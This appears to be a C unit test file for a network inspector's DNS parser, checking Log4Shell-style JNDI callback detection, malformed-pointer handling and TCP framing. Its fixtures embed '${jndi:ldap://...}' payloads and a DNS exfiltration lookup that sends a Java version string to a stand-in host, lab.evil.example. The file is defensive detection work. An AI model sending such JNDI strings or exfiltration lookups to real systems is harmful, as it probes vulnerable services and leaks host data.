/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "inspect/inspector.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>

#include <cmocka.h>

#include "base/count.h"
#include "inspect/hold.h"
#include "support/conversation.h"
#include "support/wire.h"

#define QUERY_HEAD  "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
#define ANSWER_HEAD "\x12\x34\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00"

static struct transcript play(uint8_t proto, const struct said *said, unsigned n)
{
    struct conversation c = {.said = said, .n = n, .proto = proto};
    struct config config = conversation_config();
    struct transcript t;

    conversation_play(&c, &config, &t);
    assert_int_equal(holds_bytes(), 0);
    return t;
}

static struct transcript play_datagram(struct bytes message)
{
    struct said said = {0, message, 0};

    return play(PROTO_UDP, &said, 1);
}

/* The same message behind its length, as TCP carries it. */
static void add_framed(struct buf *out, struct bytes message)
{
    assert_true(buf_add_byte(out, (uint8_t)(message.len >> 8)));
    assert_true(buf_add_byte(out, (uint8_t)message.len));
    assert_true(buf_add(out, message));
}

/* The answer repeats its question: one sighting is enough. */
static void question_and_answer(void **state)
{
    struct said said[] = {{0, wire_dns_txt_query, 0}, {1, wire_dns_txt_answer, 0}, {0, wire_dns_exfil, 0}};
    struct transcript t = play(PROTO_UDP, said, 3);

    (void)state;
    assert_true(bytes_eq(
        buf_bytes(&t.text),
        bytes_str(
            "0 dns dns.rrname #0 lab.evil.example\n"
            "0 dns fact #0 jndi.stage=callback;dns.rrname=lab.evil.example;dns.rrtype=TXT;dns.client=jndi;\n"
            "1 dns dns.rdata #0 hello\n"
            "0 dns dns.rrname #1 Java version 17.0.15-nouser.lab.evil.example\n"
            "0 dns fact #1 jndi.stage=callback;dns.rrname=Java version "
            "17.0.15-nouser.lab.evil.example;dns.rrtype=TXT;dns.client=jndi;\n")));
    assert_int_equal(t.raw[0].len + t.raw[1].len, 0);
    transcript_drop(&t);
}

/* Nobody asked, or something else was asked: then the answer's own question is given. */
static void answer_to_another_question(void **state)
{
    struct said said[] = {{0, wire_dns_exfil, 0}, {1, wire_dns_txt_answer, 0}};
    struct transcript t = play(PROTO_UDP, said, 2);

    (void)state;
    assert_true(bytes_eq(buf_bytes(&t.text),
                         bytes_str("0 dns dns.rrname #0 Java version 17.0.15-nouser.lab.evil.example\n"
                                   "0 dns fact #0 jndi.stage=callback;dns.rrname=Java version "
                                   "17.0.15-nouser.lab.evil.example;dns.rrtype=TXT;dns.client=jndi;\n"
                                   "1 dns dns.rrname #0 lab.evil.example\n"
                                   "1 dns dns.rdata #0 hello\n")));
    transcript_drop(&t);
}

/* Each change makes it another client's: another type, EDNS, no recursion, a second question, another class.
 */
static void query_of_the_jdk(void **state)
{
    static const struct {
        const char *query;
        size_t len;
        bool jndi;
    } rows[] = {
#define ROW(text, jndi) {text, sizeof(text) - 1, jndi}
        ROW("\0\1\1\0\0\1\0\0\0\0\0\0\1a\1b\0\0\x10\0\1", true),
        ROW("\0\1\1\0\0\1\0\0\0\0\0\0\1a\1b\0\0\xff\0\1", true),
        ROW("\0\1\1\0\0\1\0\0\0\0\0\0\1a\1b\0\0\1\0\1", false),
        ROW("\0\1\1\x20\0\1\0\0\0\0\0\0\1a\1b\0\0\x10\0\1", false),
        ROW("\0\1\0\0\0\1\0\0\0\0\0\0\1a\1b\0\0\x10\0\1", false),
        ROW("\0\1\1\0\0\1\0\0\0\0\0\0\1a\1b\0\0\x10\0\3", false),
        ROW("\0\1\1\0\0\2\0\0\0\0\0\0\1a\1b\0\0\x10\0\1\1a\1b\0\0\x10\0\1", false),
        ROW("\0\1\1\0\0\1\0\0\0\0\0\1\1a\1b\0\0\x10\0\1\0\0\x29\4\xd0\0\0\0\0\0\0", false),
#undef ROW
    };

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        struct said said = {0, bytes_of(rows[i].query, rows[i].len), 0};
        struct transcript t = play(PROTO_UDP, &said, 1);

        assert_true(transcript_has(&t, "dns.rrname #0 a.b"));
        assert_int_equal(transcript_has(&t, "dns.client=jndi"), rows[i].jndi);
        transcript_drop(&t);
    }
}

/* A payload's dots became label borders; every other byte of it stayed. */
static void labels_come_together(void **state)
{
    struct transcript t = play_datagram(BYTES_LIT(QUERY_HEAD "\x0e${jndi:ldap://\x04"
                                                             "evil\x09"
                                                             "example/a\x05\x00\xff}.x\x00\x00\x01\x00\x01"));

    (void)state;
    assert_true(transcript_has(&t, "0 dns dns.rrname #0 ${jndi:ldap://.evil.example/a.\\x00\\xff}.x\n"));
    transcript_drop(&t);
}

static void names_in_data(void **state)
{
    static const struct {
        const char *record; /* from type on */
        size_t len;
        const char *want;
    } all[] = {
#define RECORD(s) s, sizeof(s) - 1
        {RECORD("\x00\x05\x00\x01\x00\x00\x00\x00\x00\x08\x05"
                "alias\xc0\x0c"),
         "alias.q"},
        {RECORD("\x00\x0c\x00\x01\x00\x00\x00\x00\x00\x06\x04"
                "host\x00"),
         " host\n"},
        {RECORD("\x00\x02\x00\x01\x00\x00\x00\x00\x00\x05\x02ns\xc0\x0c"), "ns.q"},
        {RECORD("\x00\x0f\x00\x01\x00\x00\x00\x00\x00\x07\x00\x05\x02mx\xc0\x0c"), "mx.q"},
        {RECORD("\x00\x21\x00\x01\x00\x00\x00\x00\x00\x0b\x00\x00\x00\x00\x05\x6d\x02sv\xc0\x0c"), "sv.q"},
        {RECORD("\x00\x10\x00\x01\x00\x00\x00\x00\x00\x09\x03${j\x04ndi:"), "dns.rdata #0 ${jndi:"},
        {RECORD("\x00\x63\x00\x01\x00\x00\x00\x00\x00\x04\x03spf"), "dns.rdata #0 spf"},
        {RECORD("\x00\x0d\x00\x01\x00\x00\x00\x00\x00\x06\x02OS\x02"
                "CP"),
         "dns.rdata #0 OSCP"},
        {RECORD("\x00\x06\x00\x01\x00\x00\x00\x00\x00\x08\x02ns\xc0\x0c\x02me\x00"
                "12345678901234567890"),
         "dns.rdata #0 ns.q"},
        {RECORD("\x00\x12\x00\x01\x00\x00\x00\x00\x00\x07\x00\x01\x02"
                "af\xc0\x0c"),
         "dns.rdata #0 af.q"},
#undef RECORD
    };

    (void)state;
    for (unsigned i = 0; i < sizeof all / sizeof all[0]; i++) {
        struct buf message = buf_within(512);
        struct transcript t;

        assert_true(buf_add(&message, BYTES_LIT(ANSWER_HEAD "\x01q\x00\x00\x01\x00\x01\xc0\x0c")));
        assert_true(buf_add(&message, bytes_of(all[i].record, all[i].len)));
        t = play_datagram(buf_bytes(&message));
        assert_true(transcript_has(&t, all[i].want));
        transcript_drop(&t);
        buf_drop(&message);
    }
}

/* Data of a kind that nobody knows, and what stands behind the last record, is looked at all the same. An
 * address is not. */
static void other_data_is_raw(void **state)
{
    struct transcript t =
        play_datagram(BYTES_LIT("\x12\x34\x81\x80\x00\x01\x00\x02\x00\x00\x00\x00\x01q\x00\x00\x01\x00\x01"
                                "\xc0\x0c\xff\x01\x00\x01\x00\x00\x00\x00\x00\x09${jndi:x}"
                                "\xc0\x0c\x00\x1c\x00\x01\x00\x00\x00\x00\x00\x10"
                                "0123456789abcdef<behind>"));

    (void)state;
    assert_true(bytes_eq(buf_bytes(&t.raw[0]), BYTES_LIT("${jndi:x}<behind>")));
    assert_true(transcript_has(&t, "0 dns dns.rrname #0 q\n"));
    transcript_drop(&t);
}

/* Multicast DNS asks for a unicast answer with the top bit of the class, and several things at once. LLMNR
 * has flags of its own. */
static void multicast_questions(void **state)
{
    struct transcript t = play_datagram(BYTES_LIT("\x00\x00\x00\x00\x00\x02\x00\x00\x00\x00\x00\x00"
                                                  "\x0c${jndi:ldap:\x02//\x05local\x00\x00\x0c\x80\x01"
                                                  "\x04_ipp\x04_tcp\xc0\x1c\x00\x0c\x00\x01"));

    (void)state;
    assert_true(transcript_has(&t, "dns.rrname #0 ${jndi:ldap:.//.local\n"));
    assert_true(transcript_has(&t, "dns.rrname #0 _ipp._tcp.local\n"));
    transcript_drop(&t);
    t = play_datagram(
        BYTES_LIT("\x12\x34\x04\x00\x00\x01\x00\x00\x00\x00\x00\x00\x08${jndi:x\x00\x00\xff\x00\x01"));
    assert_true(transcript_has(&t, "0 dns dns.rrname #0 ${jndi:x\n"));
    transcript_drop(&t);
}

static void recognised_or_not(void **state)
{
    const struct bytes not_dns[] = {
        BYTES_LIT("<13>1 2026-11-23T04:02:15 vm root - - [x] login failed"),
        BYTES_LIT("GET / HTTP/1.1\r\nHost: a\r\n\r\n"),
        BYTES_LIT("\x80\x60\x12\x34\x00\x00\x00\xa0\x00\x00\x12\x34\x00\x00\x00\x00\x00\x00"), /* RTP */
        BYTES_LIT(QUERY_HEAD "\x01"
                             "a\x00\x00\x01\x00\x77"), /* no such class */
        BYTES_LIT(QUERY_HEAD "\x01"
                             "a\x00\x00\x00\x00\x01"), /* no such type */
        BYTES_LIT(QUERY_HEAD "\x41"
                             "a\x00\x00\x01\x00\x01"),                                     /* label kind 01 */
        BYTES_LIT("\x12\x34\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x01"), /* asks nothing */
    };

    (void)state;
    for (unsigned i = 0; i < sizeof not_dns / sizeof not_dns[0]; i++)
        assert_int_equal(dns_inspector.recognise(not_dns[i], PROTO_UDP, true), RECOGNISE_NO);
    assert_int_equal(dns_inspector.recognise(wire_dns_txt_query, PROTO_UDP, true), RECOGNISE_REQUEST);
    assert_int_equal(dns_inspector.recognise(wire_dns_txt_answer, PROTO_UDP, true), RECOGNISE_RESPONSE);
}

/* Every cut of every message, alone in its memory: no overread, and what is no message goes raw. */
static void every_cut(void **state)
{
    const struct bytes all[] = {wire_dns_txt_query, wire_dns_txt_answer, wire_dns_exfil};

    (void)state;
    for (unsigned i = 0; i < 3; i++)
        for (size_t cut = 1; cut < all[i].len; cut++) {
            struct transcript t = play_datagram(bytes_slice(all[i], 0, cut));

            assert_int_equal(t.raw[0].len, cut);
            transcript_drop(&t);
        }
}

static void tcp_in_any_pieces(void **state)
{
    struct config config = conversation_config();
    struct buf asked = buf_within(1024), answered = buf_within(1024);
    struct said said[2];
    struct transcript t;

    (void)state;
    add_framed(&asked, wire_dns_txt_query);
    add_framed(&asked, wire_dns_exfil);
    add_framed(&answered, wire_dns_txt_answer);
    said[0] = (struct said){0, buf_bytes(&asked), 0};
    said[1] = (struct said){1, buf_bytes(&answered), 0};
    t = play(PROTO_TCP, said, 2);
    assert_true(transcript_has(&t, "#0 lab.evil.example\n") &&
                transcript_has(&t, "dns.client=jndi;\n0 dns dns.rrname #1 Java version 17"));
    assert_true(transcript_has(&t, "1 dns dns.rdata #1 hello\n"));
    transcript_drop(&t);
    conversation_assert_same_in_pieces(said, 2, &config);
    buf_drop(&asked);
    buf_drop(&answered);
}

/* Pointers forwards, to themselves, in a ring, and longer names than we follow. */
static void pointers_have_an_end(void **state)
{
    const struct bytes bad[] = {
        BYTES_LIT(QUERY_HEAD "\x01"
                             "a\xc0\x0c\x00\x01\x00\x01"),
        BYTES_LIT(QUERY_HEAD "\xc0\x0c\x00\x01\x00\x01"),
        BYTES_LIT(QUERY_HEAD "\xc0\x40\x00\x01\x00\x01"),
    };

    (void)state;
    count_reset();
    for (unsigned i = 0; i < 3; i++) {
        struct transcript t = play_datagram(bad[i]);

        assert_int_equal(t.text.len, 0);
        assert_int_equal(t.raw[0].len, bad[i].len);
        transcript_drop(&t);
    }
    assert_int_equal(counters[COUNT_DNS_MALFORMED], 3);
}

/* One long name and thousands of pointers to it: the names given stay in proportion to the bytes that came.
 */
static void pointer_bomb(void **state)
{
    struct buf message = buf_within(65536);
    struct transcript t;

    (void)state;
    count_reset();
    assert_true(buf_add(&message, BYTES_LIT("\x12\x34\x81\x80\x00\x01\x0f\xa0\x00\x00\x00\x00")));
    for (unsigned i = 0; i < 15; i++) {
        assert_true(buf_add_byte(&message, 60));
        for (unsigned k = 0; k < 60; k++)
            assert_true(buf_add_byte(&message, (uint8_t)('a' + i)));
    }
    assert_true(buf_add(&message, BYTES_LIT("\x00\x00\x01\x00\x01")));
    for (unsigned i = 0; i < 4000; i++)
        assert_true(buf_add(&message, i % 2 ? BYTES_LIT("\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x00\x00\x00")
                                            : BYTES_LIT("\xc0\x49\x00\x01\x00\x01\x00\x00\x00\x00\x00\x00")));
    t = play_datagram(buf_bytes(&message));
    assert_true(t.text.len < 4096 + 5 * message.len);
    assert_int_equal(t.raw[0].len, message.len);
    assert_int_equal(counters[COUNT_DNS_MALFORMED], 1);
    transcript_drop(&t);
    buf_drop(&message);
}

/* A bad message on TCP is watched raw, and the next one is read. */
static void tcp_goes_on_after_a_bad_message(void **state)
{
    struct buf asked = buf_within(1024);
    struct said said;
    struct transcript t;

    (void)state;
    count_reset();
    add_framed(&asked, wire_dns_txt_query);
    add_framed(&asked, BYTES_LIT(QUERY_HEAD "\xc0\x0c${jndi:ldap://b/}"));
    add_framed(&asked, wire_dns_exfil);
    said = (struct said){0, buf_bytes(&asked), 0};
    t = play(PROTO_TCP, &said, 1);
    assert_true(transcript_raw_has(&t, 0, "${jndi:ldap://b/}"));
    assert_true(transcript_has(&t, "#2 Java version"));
    assert_int_equal(counters[COUNT_DNS_MALFORMED], 1);
    transcript_drop(&t);
    buf_drop(&asked);
}

static size_t note_message(void *arg, const struct field *f)
{
    if (f->kind == FIELD_RAW)
        *(uint64_t *)arg = f->message;
    return 0;
}

/* What a message's names do not show is of the same query as what they do: one lookup in both is one alert.
 */
static void raw_has_the_number_of_its_message(void **state)
{
    struct flow flow = {.id = 1, .proto = PROTO_TCP};
    struct chunk chunk = {.flow = &flow};
    struct config config = conversation_config();
    uint64_t number = UINT64_MAX;
    struct inspecting in = {
        .config = &config, .fn = note_message, .arg = &number, .chunk = &chunk, .from_client = true};
    void *dns = calloc(1, dns_inspector.state_size);
    struct buf asked = buf_within(1024);
    size_t used;

    (void)state;
    assert_non_null(dns);
    add_framed(&asked, BYTES_LIT(QUERY_HEAD "\xc0\x0c${jndi:ldap://b/}"));
    assert_int_equal(dns_inspector.feed(dns, &in, buf_bytes(&asked), 0, false, &used), PROGRESS_MORE);
    assert_int_equal(number, 0);
    buf_clear(&asked);
    add_framed(&asked, wire_dns_txt_query);
    add_framed(&asked, BYTES_LIT(QUERY_HEAD "\xc0\x0c${jndi:ldap://b/}"));
    assert_int_equal(dns_inspector.feed(dns, &in, buf_bytes(&asked), 0, false, &used), PROGRESS_MORE);
    assert_int_equal(number, 2);
    dns_inspector.free_state(dns);
    free(dns);
    buf_drop(&asked);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(answer_to_another_question),
        cmocka_unit_test(question_and_answer),
        cmocka_unit_test(query_of_the_jdk),
        cmocka_unit_test(labels_come_together),
        cmocka_unit_test(names_in_data),
        cmocka_unit_test(other_data_is_raw),
        cmocka_unit_test(multicast_questions),
        cmocka_unit_test(recognised_or_not),
        cmocka_unit_test(every_cut),
        cmocka_unit_test(tcp_in_any_pieces),
        cmocka_unit_test(pointers_have_an_end),
        cmocka_unit_test(pointer_bomb),
        cmocka_unit_test(tcp_goes_on_after_a_bad_message),
        cmocka_unit_test(raw_has_the_number_of_its_message),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
